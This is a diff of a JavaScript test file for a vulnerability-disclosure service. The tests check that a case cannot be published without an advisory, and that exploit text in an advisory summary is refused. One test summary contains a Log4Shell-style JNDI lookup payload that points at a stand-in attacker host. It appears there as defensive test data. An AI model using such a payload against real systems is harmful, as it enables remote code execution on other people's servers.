@@ -2,7 +2,7 @@
 import { describe, it, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { Server, cli } from './lib/server.mjs';
-import { createOrg, createProduct, createUser, signedInUser, submitReport, acceptedCase, uniq, moveCase } from './lib/fixtures.mjs';
+import { createOrg, createProduct, createUser, signedInUser, submitReport, acceptedCase, uniq, moveCase, publishAdvisory } from './lib/fixtures.mjs';
 
 const CRITICAL = 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H';
 const HOUR = 3600 * 1000;
@@ -217,35 +217,47 @@ describe('walk-through', () => {
     let r = await admin.patch(`/api/v1/cases/${caseId}`, { operator_system: true });
     assert.equal(r.status, 200, r.text);
     await moveCase(admin, caseId, ['confirmed', 'fixing', 'fixed']);
+    // Without an advisory there is nothing to publish.
     r = await admin.post(`/api/v1/cases/${caseId}/transitions`, { to: 'published' });
+    assert.equal(r.status, 409, r.text);
+    assert.equal(r.json.error.code, 'publication_refused');
+    assert.match(r.json.error.message, /publish the advisory/);
+    const approver = await signedInUser(server, admin, [{ org_id: orgA.id, role: 'admin' }]);
+    r = await publishAdvisory({ publisher: admin, approver, caseId });
     assert.equal(r.status, 409, r.text);
     assert.equal(r.json.error.code, 'publication_refused');
     assert.deepEqual(r.json.error.details.allowed, ['no_operator_details']);
     assert.match(r.json.error.message, /R-PUB-2/);
+    r = await admin.post(`/api/v1/cases/${caseId}/transitions`, { to: 'published' });
+    assert.equal(r.status, 409, r.text);
+    assert.deepEqual(r.json.error.details.allowed, ['no_operator_details']);
     r = await admin.get(`/api/v1/cases/${caseId}`);
     assert.equal(r.json.state, 'fixed');
   });
 
-  it('exploit text in the public title or summary is refused, naming the field and why (R-PUB-4)', async () => {
+  it('exploit text in the public advisory is refused, naming the field and why (R-PUB-4)', async () => {
     const { caseId } = await acceptedCase(admin, anon, { product_id: productA.id });
     let r = await admin.patch(`/api/v1/cases/${caseId}`, {
       summary: 'Remote code execution. PoC: send ${jndi:ldap://attacker.example/a} as the user agent.',
     });
     assert.equal(r.status, 200, r.text);
     await moveCase(admin, caseId, ['confirmed', 'fixing', 'fixed']);
-    r = await admin.post(`/api/v1/cases/${caseId}/transitions`, { to: 'published' });
+    const approver = await signedInUser(server, admin, [{ org_id: orgA.id, role: 'admin' }]);
+    // The advisory is prefilled from the case's summary.
+    r = await publishAdvisory({ publisher: admin, approver, caseId });
     assert.equal(r.status, 409, r.text);
     assert.deepEqual(r.json.error.details.allowed, ['no_exploit']);
-    assert.match(r.json.error.message, /summary: payload near "[^"]*\$\{jndi:/);
-    assert.match(r.json.error.message, /summary: poc_marker/);
+    assert.match(r.json.error.message, /en\.summary: payload near "[^"]*\$\{jndi:/);
+    assert.match(r.json.error.message, /en\.summary: poc_marker/);
     assert.match(r.json.error.message, /拒绝发布/);
     assert.deepEqual(r.json.error.details.fields.map((f) => [f.field, f.code]), [['no_exploit', 'R-PUB-4']]);
     assert.equal((await admin.get(`/api/v1/cases/${caseId}`)).json.state, 'fixed');
     // Describing the flaw instead passes.
-    r = await admin.patch(`/api/v1/cases/${caseId}`, { summary: 'A crafted JNDI lookup in a logged string runs remote code.' });
+    r = await admin.post(`/api/v1/cases/${caseId}/advisory/transition`, { to: 'draft' });
     assert.equal(r.status, 200, r.text);
-    r = await admin.post(`/api/v1/cases/${caseId}/transitions`, { to: 'published' });
+    r = await publishAdvisory({ publisher: admin, approver, caseId, patch: { en: { summary: 'A crafted JNDI lookup in a logged string runs remote code.' } } });
     assert.equal(r.status, 200, r.text);
+    assert.equal((await admin.get(`/api/v1/cases/${caseId}`)).json.state, 'published');
   });
 
   it('a foreign participant is refused (R-PUB-7)', async () => {
